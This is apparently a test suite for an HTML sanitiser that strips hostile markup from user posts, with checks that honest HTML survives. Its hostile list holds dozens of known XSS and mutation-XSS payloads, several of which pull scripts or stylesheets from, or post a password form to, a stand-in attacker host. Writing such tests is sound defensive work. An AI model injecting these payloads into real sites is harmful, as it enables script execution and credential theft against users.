// The sanitiser on hostile and honest HTML.
import { sanitise } from '../../src/posts/sanitise.js';
import { cpuTime } from '../support/cpu-time.js';

const base = 'https://example.org/posts/1';

// From the OWASP filter evasion sheet, the mutation XSS collections of DOMPurify and Google, and real mail.
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="background:url(javascript:alert(1))">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import url(//evil.example/x.css);body{display:none}</style>',
  '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
  '<div class="x" id="y" onclick="alert(1)">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<table background="javascript:alert(1)"><tr><td background="x">y</td></tr></table>',
  '<img srcset="https://evil.example/x.png 2x" src="https://example.org/a.png" width="1" height="1">',
  '<a href="https://good.example" target="_top" ping="https://evil.example">x</a>',
  '<video src="https://evil.example/x.mp4" onerror=alert(1)></video>',
  '<td colspan="99999999">x</td>',
  '<p>\u202egnissim\u0000 \u0007</p>',
];

describe('hostile HTML', () => {
  test.each(hostile)('%s', (html) => {
    const safe = sanitise(html, base);
    expect(safe).not.toMatch(
      /<(?!\/?(?:p|div|br|hr|h[2-6]|blockquote|q|cite|ul|ol|li|dl|dt|dd|pre|code|kbd|samp|var|em|i|strong|b|u|s|del|ins|small|sub|sup|mark|abbr|a|img|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td)[\s>])/i,
    );
    // No attribute but the allowed ones inside any tag.
    for (const [tag] of safe.matchAll(/<[^>]+>/g))
      expect(
        tag.replaceAll(
          / (?:href|src|alt|title|width|height|colspan|rowspan|start|data-digest-(?:media|seconds))="[^"]*"/g,
          '',
        ),
      ).toMatch(/^<\/?[a-z0-9]+(?: \/)?>$/);
    expect(safe).not.toMatch(/(?:href|src)="(?!https?:|mailto:)/i);
    expect(safe).not.toMatch(/[\u0000\u0007\u202e]/);
  });

  test.each(hostile)('sanitising again changes nothing: %s', (html) => {
    const once = sanitise(html, base);
    expect(sanitise(once, base)).toBe(once);
    expect(sanitise(once)).toBe(once);
  });

  test('any shuffle of hostile pieces is stable after the first time', () => {
    let seed = 1;
    const random = (below: number): number => {
      seed = (seed * 48_271) % 2_147_483_647;
      return seed % below;
    };
    const pieces = hostile.flatMap((html) => html.split(/(?=<)/));
    for (let round = 0; round < 500; round += 1) {
      const html = Array.from({ length: 12 }, () => pieces[random(pieces.length)]).join('');
      const once = sanitise(html, base);
      expect(sanitise(once, base)).toBe(once);
      expect(once).not.toMatch(/<[^>]*\son\w+=|<script|<style|<svg|<iframe/i);
    }
  });

  test('depth that would take a parser its stack is flattened, and takes no time', async () => {
    let safe = '';
    const html = `${'<div><b>'.repeat(10_000)}deep${'</b></div>'.repeat(10_000)}`;
    expect(await cpuTime(() => (safe = sanitise(html, base)))).toBeLessThan(10_000);
    expect(safe).toContain('deep');
    expect(safe.split('<div>').length).toBeLessThan(62);
  });

  test.each(['<div>', '<b>', '<div><b>', '<b><i></b>', '<tr><td>', '<td><li>', '<ul><li>', '<', '<div '])(
    'nothing but %s, as long as a post can be, takes no time that grows with its depth',
    async (tag) => {
      const html = tag.repeat(500_000 / tag.length);
      expect(await cpuTime(() => sanitise(html, base))).toBeLessThan(2_500);
    },
  );

  test('what stands within too many elements stays, and so does what follows them', () => {
    const deep = `${'<span>'.repeat(5_000)}within${'</span>'.repeat(5_000)}<p>after</p>`;
    expect(sanitise(deep, base)).toBe('within<p>after</p>');
    const forgotten = '<p>One <b>bold<table><tr><td>cell'.repeat(300);
    expect(sanitise(forgotten, base).split('cell')).toHaveLength(301);
  });
});

describe('honest HTML', () => {
  test.each([
    ['<p>Tom &amp; <em>Jerry</em> &lt;3</p>', '<p>Tom &amp; <em>Jerry</em> &lt;3</p>'],
    ['<a href="/about">x</a>', '<a href="https://example.org/about">x</a>'],
    ['<a href="next">x</a>', '<a href="https://example.org/posts/next">x</a>'],
    ['<a href="//cdn.example/x">x</a>', '<a href="https://cdn.example/x">x</a>'],
    ['<a href="#note">1</a>', '<a href="https://example.org/posts/1#note">1</a>'],
    ['<a href="mailto:a@example.org">x</a>', '<a href="mailto:a@example.org">x</a>'],
    ['<p>See <a name="x">here</a>.</p>', '<p>See here.</p>'],
    [
      '<img src="i.png" alt="A &quot;crane&quot;" width="640px" height="auto">',
      '<img src="https://example.org/posts/i.png" alt="A &quot;crane&quot;" width="640" />',
    ],
    [
      '<img src="data:image/gif;base64,R0" data-src="/late.jpg" alt="">',
      '<img src="https://example.org/late.jpg" alt="" />',
    ],
    ['<h1>T</h1><section>a</section><article>b</article>', '<h2>T</h2><div>a</div><div>b</div>'],
    ['<p></p><p>&nbsp;</p><div><p><br></p></div><p>x</p>', '<p>x</p>'],
    [
      '<div><p><img src="i.png" alt="x"></p></div>',
      '<div><p><img src="https://example.org/posts/i.png" alt="x" /></p></div>',
    ],
    ['<p>unclosed <b>bold', '<p>unclosed <b>bold</b></p>'],
    ['<ol start="3"><li>x</li></ol>', '<ol start="3"><li>x</li></ol>'],
  ])('%s', (html, expected) => {
    expect(sanitise(html, base)).toBe(expected);
  });

  test('relative addresses without a base are dropped, their text stays', () => {
    expect(sanitise('<p><a href="/x">text</a><img src="y.png"></p>')).toBe('<p>text</p>');
  });
});
